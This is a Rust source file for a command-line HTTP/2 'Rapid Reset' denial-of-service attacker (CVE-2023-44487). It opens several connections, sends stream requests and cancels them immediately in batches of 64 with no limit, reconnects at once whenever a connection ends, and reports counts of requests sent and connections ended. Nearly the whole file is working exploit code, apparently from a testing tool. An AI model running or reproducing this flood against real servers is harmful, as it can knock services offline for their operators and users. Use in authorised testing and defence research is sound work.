//! An attacker: requests over HTTP/2 that are given up in the breath in which they are asked (CVE-2023-44487).
//!
//! It keeps no limit and reads only to throw away; a connection that is ended is opened anew at once.

use crate::client::{Asker, Stream, Target};
use crate::http2;
use anyhow::Result;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

/// Arguments of `resets`.
#[derive(clap::Args)]
pub(crate) struct Resets {
    #[command(flatten)]
    target: Target,
    /// How many attackers, with one connection each at a time.
    #[arg(long, default_value_t = 3)]
    connections: u32,
    /// For how long.
    #[arg(long)]
    seconds: u64,
}

#[derive(Default)]
struct Tally {
    requests: AtomicU64,
    ended: AtomicU64,
}

impl Resets {
    pub(crate) async fn run(self) -> Result<()> {
        let asker = Arc::new(self.target.asker()?);
        let tally = Arc::new(Tally::default());
        let mut attackers = JoinSet::new();
        for _ in 0..self.connections {
            attackers.spawn(attack(Arc::clone(&asker), Arc::clone(&tally)));
        }
        tokio::time::sleep(Duration::from_secs(self.seconds)).await;
        attackers.shutdown().await;
        let [requests, ended] = [&tally.requests, &tally.ended].map(|count| count.load(Ordering::Relaxed));
        crate::say(&format!("{{\"requests\": {requests}, \"ended\": {ended}}}"))
    }
}

async fn attack(asker: Arc<Asker>, tally: Arc<Tally>) {
    loop {
        match asker.connect().await {
            Ok(stream) => pour(stream, &asker, &tally).await,
            // Whoever takes no connections any more is asked again, but not in a circle.
            Err(_) => tokio::time::sleep(Duration::from_millis(10)).await,
        }
        tally.ended.fetch_add(1, Ordering::Relaxed);
    }
}

/// Asks and gives up until the other side ends it.
async fn pour(stream: Box<dyn Stream>, asker: &Asker, tally: &Tally) {
    let (mut from, mut to) = tokio::io::split(stream);
    let pouring = async {
        // Preface, settings and a first request.
        to.write_all(asker.request()).await?;
        for first in (3..1 << 30).step_by(2 * BATCH as usize) {
            let mut bytes = Vec::new();
            for request in 0..BATCH {
                http2::write_given_up(first + 2 * request, &mut bytes);
            }
            to.write_all(&bytes).await?;
            to.flush().await?;
            tally.requests.fetch_add(u64::from(BATCH), Ordering::Relaxed);
        }
        Ok::<(), std::io::Error>(())
    };
    let draining = async {
        let mut buffer = vec![0; 16 << 10];
        while from.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
    };
    tokio::select! {
        _ = pouring => {}
        () = draining => {}
    }
}

/// Requests in one write.
const BATCH: u32 = 64;
